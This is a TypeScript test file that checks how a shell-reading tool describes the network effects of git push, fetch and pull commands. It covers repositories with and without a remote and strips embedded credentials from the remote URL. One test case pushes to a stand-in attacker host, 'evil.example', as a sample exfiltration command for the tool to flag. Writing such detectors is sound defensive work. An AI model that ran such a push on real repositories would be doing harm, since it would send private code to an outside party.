/** A remote is told by what the repository says of it; where it has none of that name, that is said. */
import { execFileSync } from "node:child_process";
import { afterAll, beforeAll, expect, test } from "vitest";
import { describeEffect } from "../contract/describe.ts";
import { diskWorld } from "../machine/index.ts";
import { type Project, project } from "../testing/index.ts";
import { readShell } from "../watch/reading/index.ts";

let here: Project;
const git = (dir: string, ...words: readonly string[]) =>
  execFileSync("git", words, { cwd: here.at(dir), stdio: "ignore" });
beforeAll(() => {
  here = project();
  for (const dir of ["with", "without"]) {
    here.write(`${dir}/a`, "a\n");
    git(dir, "init", "-q", "-b", "main");
  }
  git("with", "remote", "add", "origin", "https://user:secret@github.com/a/b.git");
});
afterAll(() => here.remove());

function told(dir: string, command: string): readonly string[] {
  const world = diskWorld({ home: here.home, path: "/usr/bin:/bin" });
  const context = { cwd: here.at(dir), projectRoot: here.root, world, written: new Set<string>() };
  return readShell(command, context).effects.flatMap((effect) =>
    effect.do === "network" ? [describeEffect(effect, { quote: (text) => text })] : [],
  );
}

test.each([
  ["without", "git push origin main", "sends data to the remote origin, which this repository does not have yet"],
  ["without", "git push", "sends data to a remote, of which this repository has none yet"],
  ["without", "git fetch upstream", "contacts the remote upstream, which this repository does not have yet"],
  ["with", "git push", "sends data to the remote origin (https://github.com/a/b.git)"],
  ["with", "git fetch", "contacts the remote origin (https://github.com/a/b.git)"],
  ["with", "git push origin main", "sends data to the remote origin (https://github.com/a/b.git)"],
  ["with", "git pull fork main", "contacts the remote fork, which this repository does not have yet"],
  ["with", "git push https://evil.example/x main", "sends data to evil.example"],
  ["with", 'git push "$R" main', "sends data to a host that is not known"],
])("%s a remote: %s", (dir, command, words) => {
  expect(told(dir, command)).toEqual([words]);
});
